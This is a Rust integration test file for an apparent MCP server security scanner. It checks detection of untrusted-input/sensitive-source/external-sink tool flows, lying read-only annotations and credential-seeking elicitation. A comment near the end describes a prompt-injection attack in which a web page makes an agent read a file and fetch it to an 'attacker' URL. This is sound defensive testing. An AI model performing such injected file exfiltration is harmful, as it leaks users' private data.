//! Stages 3, 4 and 6 end to end through the CLI: the flow table's worked shapes
//! (`docs/spec/README.md`),
//! client built-ins and posture on a client config.

use crate::common::{mtc, scan_json};

fn rules(server: &serde_json::Value) -> Vec<String> {
    server["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule_id"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn single_tool_trifecta_is_flow_001_and_f() {
    let (r, code) = scan_json(&["fixtures/flows/single-tool-trifecta.json"]);
    let s = &r["servers"][0];
    assert!(rules(s).contains(&"MTC-FLOW-001".to_string()), "{s:#}");
    assert_eq!(s["score"]["grade"], "F");
    assert_eq!(code, 1, "an F fails the default gate");
    let roles = &s["roles"]["sync"];
    for role in ["untrusted-input", "sensitive-source", "external-sink"] {
        assert!(
            roles.as_array().unwrap().iter().any(|x| x == role),
            "{roles}"
        );
    }
}

#[test]
fn cross_tool_trifecta_is_flow_002_d_not_f() {
    let (r, code) = scan_json(&["fixtures/flows/cross-tool-trifecta.json"]);
    let s = &r["servers"][0];
    let f: Vec<&serde_json::Value> = s["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule_id"] == "MTC-FLOW-002")
        .collect();
    assert_eq!(f.len(), 1, "{s:#}");
    let msg = f[0]["message"].as_str().unwrap();
    assert!(
        msg.contains("fetch_url") && msg.contains("read_file") && msg.contains("http_request"),
        "{msg}"
    );
    assert_eq!(s["score"]["grade"], "D");
    assert_eq!(code, 0);
}

#[test]
fn read_only_tools_have_no_flow() {
    let (r, _) = scan_json(&["fixtures/flows/read-only.json"]);
    let s = &r["servers"][0];
    assert!(
        !rules(s).iter().any(|id| id.starts_with("MTC-FLOW")),
        "{s:#}"
    );
}

#[test]
fn posture_on_a_client_config() {
    let (r, _) = scan_json(&["fixtures/flows/config", "--root", "fixtures/flows/config"]);
    let by = |name: &str| rules(crate::common::server(&r, &format!("#{name}")));
    assert!(
        !by("docs").iter().any(|x| x.starts_with("MTC-NET")),
        "{:?}",
        by("docs")
    );
    let wrapped = by("wrapped");
    assert!(wrapped.contains(&"MTC-NET-010".into()), "{wrapped:?}");
    let bx = by("box");
    assert!(
        bx.contains(&"MTC-NET-007".into()) && bx.contains(&"MTC-NET-009".into()),
        "{bx:?}"
    );
    let remote = by("remote");
    assert!(
        remote.contains(&"MTC-NET-003".into()) && remote.contains(&"MTC-NET-005".into()),
        "{remote:?}"
    );
}

#[test]
fn include_builtins_adds_the_clients_tools_to_the_session() {
    let (r, _) = scan_json(&[
        "fixtures/flows/config",
        "--root",
        "fixtures/flows/config",
        "--include-builtins",
        "cursor",
    ]);
    let sess = &r["sessions"][0];
    let msgs: Vec<&str> = sess["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule_id"] == "MTC-FLOW-002")
        .map(|f| f["message"].as_str().unwrap())
        .collect();
    assert_eq!(msgs.len(), 1, "{sess:#}");
    assert!(
        msgs[0].contains("cursor/run_terminal_cmd") && msgs[0].contains("cursor/web_search"),
        "{}",
        msgs[0]
    );
    let (r, _) = scan_json(&["fixtures/flows/config", "--root", "fixtures/flows/config"]);
    assert!(
        !r["sessions"][0]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule_id"] == "MTC-FLOW-002")
    );
    let out = mtc()
        .args([
            "scan",
            "fixtures/flows/config",
            "--include-builtins",
            "notepad",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("cursor"));
}

// ---- issue 18: the flow table without gaps, roles from behaviour, annotations and elicitation

/// Findings of one scanned server with the given rule id.
fn with_rule<'a>(server: &'a serde_json::Value, rule: &str) -> Vec<&'a serde_json::Value> {
    server["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule_id"] == rule)
        .collect()
}

fn grade(server: &serde_json::Value) -> &str {
    server["score"]["grade"].as_str().unwrap()
}

/// Every manifest of a fixture directory, scanned in one run: (file name, server).
fn scan_dir(dir: &str) -> Vec<(String, serde_json::Value)> {
    let files: Vec<String> = crate::common::json_files(&crate::common::repo().join(dir))
        .iter()
        .map(|p| p.display().to_string())
        .collect();
    let refs: Vec<&str> = files.iter().map(String::as_str).collect();
    let (r, _) = scan_json(&refs);
    let servers = r["servers"].as_array().unwrap();
    assert_eq!(servers.len(), files.len(), "{r:#}");
    files
        .iter()
        .map(|f| {
            let name = std::path::Path::new(f)
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned();
            let s = servers
                .iter()
                .find(|s| s["id"].as_str().unwrap().ends_with(&name))
                .unwrap()
                .clone();
            (name, s)
        })
        .collect()
}

#[test]
fn one_tool_downloader_attacher_poster_is_flow_001_and_f() {
    let (r, code) = scan_json(&["fixtures/flows/downloader-attacher-poster.json"]);
    let s = &r["servers"][0];
    let f = with_rule(s, "MTC-FLOW-001");
    assert_eq!(f.len(), 1, "{s:#}");
    assert_eq!(f[0]["confidence"], "confirmed");
    assert_eq!(f[0]["tool"], "sync_page");
    // Each leg says which sentence gave its role.
    let ev = f[0]["evidence"].as_str().unwrap();
    for leg in ["untrusted-input", "sensitive-source", "external-sink"] {
        assert!(ev.contains(&format!("{leg} `")), "{leg}: {ev}");
    }
    assert!(
        ev.contains("downloads … ") && ev.contains("posts … "),
        "{ev}"
    );
    assert_eq!(grade(s), "F");
    assert_eq!(code, 1);
}

#[test]
fn read_only_delete_is_a_confirmed_annotation_lie() {
    let (r, _) = scan_json(&["fixtures/flows/read-only-delete.json"]);
    let s = &r["servers"][0];
    let f = with_rule(s, "MTC-CAP-003");
    assert_eq!(f.len(), 1, "{s:#}");
    assert_eq!(
        (f[0]["severity"].as_str(), f[0]["confidence"].as_str()),
        (Some("high"), Some("confirmed"))
    );
    assert!(
        f[0]["message"]
            .as_str()
            .unwrap()
            .contains("delete … file in \"delete every file in the workspace directory.\""),
        "{}",
        f[0]["message"]
    );
    assert_eq!(
        f[0]["field"],
        "tools[tidy_workspace].annotations.readOnlyHint"
    );
    assert!(matches!(grade(s), "C" | "D" | "F"), "{}", grade(s));
}

#[test]
fn fetch_only_manifest_with_claude_code_builtins_is_flow_002() {
    let path = "fixtures/flows/fetch-only.json";
    let (r, _) = scan_json(&[path]);
    assert!(
        r["sessions"].as_array().unwrap().is_empty(),
        "a manifest alone is no session"
    );
    assert!(with_rule(&r["servers"][0], "MTC-FLOW-002").is_empty());
    let (r, _) = scan_json(&[path, "--include-builtins", "claude-code"]);
    let sessions = r["sessions"].as_array().unwrap();
    assert_eq!(sessions.len(), 1, "{r:#}");
    let sess = &sessions[0];
    assert!(sess["id"].as_str().unwrap().ends_with("fetch-only.json"));
    let f = with_rule(sess, "MTC-FLOW-002");
    assert_eq!(f.len(), 1, "{sess:#}");
    let msg = f[0]["message"].as_str().unwrap();
    assert!(
        msg.contains("fetch-only/fetch") && msg.contains("claude-code/"),
        "{msg}"
    );
    assert!(
        f[0]["evidence"]
            .as_str()
            .unwrap()
            .contains("client built-in"),
        "{}",
        f[0]["evidence"]
    );
    assert_eq!(grade(sess), "D");
}

#[test]
fn github_style_server_is_d_with_flow_002() {
    let (r, code) = scan_json(&["fixtures/flows/github-style.json"]);
    let s = &r["servers"][0];
    let f = with_rule(s, "MTC-FLOW-002");
    assert_eq!(f.len(), 1, "{s:#}");
    let msg = f[0]["message"].as_str().unwrap();
    for t in ["get_issue", "get_file_contents", "create_pull_request"] {
        assert!(msg.contains(t), "{t}: {msg}");
    }
    assert_eq!(grade(s), "D");
    assert_eq!(code, 0, "a D does not fail the default gate");
}

/// Scan a fixture directory where every server must raise `rule` once, confirmed,
/// at grade C or worse; returns the cases.
fn each_confirmed_at_c_or_worse(
    dir: &str,
    rule: &str,
    min: usize,
) -> Vec<(String, serde_json::Value)> {
    let cases = scan_dir(dir);
    assert!(cases.len() >= min, "{} cases", cases.len());
    for (name, s) in &cases {
        let f = with_rule(s, rule);
        assert_eq!(f.len(), 1, "{name}: {s:#}");
        assert_eq!(f[0]["confidence"], "confirmed", "{name}: {}", f[0]);
        assert!(
            matches!(grade(s), "C" | "D" | "F"),
            "{name} grades {}",
            grade(s)
        );
    }
    cases
}

/// The `field` of the one `rule` finding of the case named `name`.
fn case_text<'a>(
    cases: &'a [(String, serde_json::Value)],
    name: &str,
    rule: &str,
    field: &str,
) -> &'a str {
    let s = &cases.iter().find(|(n, _)| n == name).unwrap().1;
    with_rule(s, rule)[0][field].as_str().unwrap()
}

#[test]
fn every_annotation_lie_is_confirmed_and_grades_c_or_worse() {
    let cases = each_confirmed_at_c_or_worse("fixtures/flows/annotation-lies", "MTC-CAP-003", 10);
    // The lie is named: which annotation, and what the tool does instead.
    let m = case_text(&cases, "pay-vendor.json", "MTC-CAP-003", "message");
    assert!(
        m.contains("readOnlyHint: true") && m.contains("high-impact"),
        "{m}"
    );
    let m = case_text(&cases, "cleanup-cache.json", "MTC-CAP-003", "message");
    assert!(
        m.contains("readOnlyHint: true") && m.contains("destructiveHint: false"),
        "{m}"
    );
}

#[test]
fn every_credential_seeking_elicitation_grades_c_or_worse() {
    let cases = each_confirmed_at_c_or_worse("fixtures/flows/elicitation", "MTC-CAP-011", 4);
    for (name, s) in &cases {
        assert!(with_rule(s, "MTC-CAP-010").is_empty(), "{name}");
    }
    let ev = case_text(&cases, "banking.json", "MTC-CAP-011", "evidence");
    assert!(
        ev.contains("sms code") && ev.contains("tools[verify_account].description"),
        "{ev}"
    );
}

#[test]
fn benign_look_alikes_stay_a_or_b() {
    for (name, s) in scan_dir("fixtures/flows/look-alikes") {
        assert!(with_rule(&s, "MTC-CAP-003").is_empty(), "{name}: {s:#}");
        assert!(with_rule(&s, "MTC-CAP-011").is_empty(), "{name}: {s:#}");
        assert!(
            matches!(grade(&s), "A" | "B"),
            "{name} grades {}",
            grade(&s)
        );
    }
}

/// The textbook trifecta: the npm filesystem server and the PyPI fetch server
/// enabled together. Whoever reads a web page can make the agent read a file and
/// fetch `https://attacker/?q=<the file>`.
const FS_FETCH_CONFIG: &str = r#"{"mcpServers": {
  "filesystem": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2026.8.31", "."]},
  "fetch": {"command": "uvx", "args": ["mcp-server-fetch@2026.10.24"]}
}}"#;

/// The session's FLOW-002, checked the same way whatever acquired the catalogs.
fn assert_fs_fetch_trifecta(r: &serde_json::Value) {
    let sessions = r["sessions"].as_array().unwrap();
    assert_eq!(sessions.len(), 1, "{r:#}");
    let sess = &sessions[0];
    let f = with_rule(sess, "MTC-FLOW-002");
    assert_eq!(f.len(), 1, "{sess:#}");
    let msg = f[0]["message"].as_str().unwrap();
    assert!(
        msg.contains("`fetch/fetch` (untrusted-input)") && msg.contains("`filesystem/"),
        "{msg}"
    );
    assert!(msg.contains("url-fetch"), "the fetch is the way out: {msg}");
    let ev = f[0]["evidence"].as_str().unwrap();
    assert!(
        ev.contains("untrusted-input `fetch/fetch`") && ev.contains("url-fetch `fetch/fetch`"),
        "{ev}"
    );
    assert_eq!(grade(sess), "D", "{:#}", sess["score"]);
    // Each server alone holds no trifecta.
    for s in r["servers"].as_array().unwrap() {
        assert!(with_rule(s, "MTC-FLOW-002").is_empty(), "{}", s["id"]);
    }
}

#[test]
fn filesystem_and_fetch_from_a_lockfile_snapshot_is_a_trifecta_and_d() {
    use mcptrustchecker::acquire::{AcquireOptions, acquire_paths};
    use mcptrustchecker::lock::lockfile::Lockfile;
    use mcptrustchecker::lock::pin::lock_surfaces;
    use mcptrustchecker::surface::{Coverage, Item};
    let dir = crate::common::marked_repo();
    std::fs::write(dir.path().join(".mcp.json"), FS_FETCH_CONFIG).unwrap();
    // Pin the catalogs the published servers serve (recorded in the vendored corpora),
    // as `lock --live` would have.
    let opts = AcquireOptions {
        root: dir.path().to_path_buf(),
        ..AcquireOptions::default()
    };
    let mut surfaces = acquire_paths(&[dir.path().join(".mcp.json")], &opts).surfaces;
    assert_eq!(surfaces.len(), 2);
    for s in &mut surfaces {
        let raw: serde_json::Value = serde_json::from_str(
            &std::fs::read_to_string(
                crate::common::corpora().join(format!("real-catalogs/{}.json", s.name)),
            )
            .unwrap(),
        )
        .unwrap();
        s.tools = raw["tools"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| Item::new(t["name"].as_str().unwrap(), t.clone(), None))
            .collect();
        s.capabilities = Some(raw["initialize"]["capabilities"].clone());
        s.coverage = Coverage::Live;
    }
    let mut lock = Lockfile::empty("mcptrustchecker.lock");
    assert_eq!(lock_surfaces(&mut lock, &surfaces, &[]).added.len(), 2);
    std::fs::write(dir.path().join("mcptrustchecker.lock"), lock.to_text()).unwrap();
    let (r, _) = scan_json(&[
        &dir.path().to_string_lossy(),
        "--root",
        &dir.path().to_string_lossy(),
    ]);
    for s in r["servers"].as_array().unwrap() {
        assert_eq!(s["coverage"], "lockfile", "{}", s["id"]);
    }
    assert_fs_fetch_trifecta(&r);
}

#[test]
fn filesystem_and_fetch_scanned_live_is_a_trifecta_and_d() {
    let repo = crate::common::repo();
    let fs_js =
        repo.join(".cache/npm/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
    let venv = repo.join(".cache/venv/bin");
    assert!(
        fs_js.exists() && venv.join("python3").exists(),
        "the live test servers are missing: run scripts/test-deps.sh"
    );
    let dir = crate::common::marked_repo();
    std::fs::create_dir(dir.path().join("work")).unwrap();
    // The same two servers, started from the pinned installs of scripts/test-deps.sh.
    let cfg = serde_json::json!({"mcpServers": {
        "filesystem": {"command": "node", "args": [fs_js, dir.path().join("work")]},
        "fetch": {"command": "python3", "args": ["-m", "mcp_server_fetch"]}
    }});
    std::fs::write(dir.path().join(".mcp.json"), cfg.to_string()).unwrap();
    let path = format!(
        "{}:{}",
        venv.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let out = mtc()
        .args([
            "scan",
            &dir.path().to_string_lossy(),
            "--root",
            &dir.path().to_string_lossy(),
            "--live",
            "--live-timeout",
            "60",
            "--live-server-timeout",
            "90",
            "--format",
            "json",
        ])
        .env("PATH", path)
        .timeout(std::time::Duration::from_secs(180))
        .output()
        .unwrap();
    let r: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    for s in r["servers"].as_array().unwrap() {
        assert_eq!(s["coverage"], "live", "{:#}", s);
    }
    assert_fs_fetch_trifecta(&r);
}
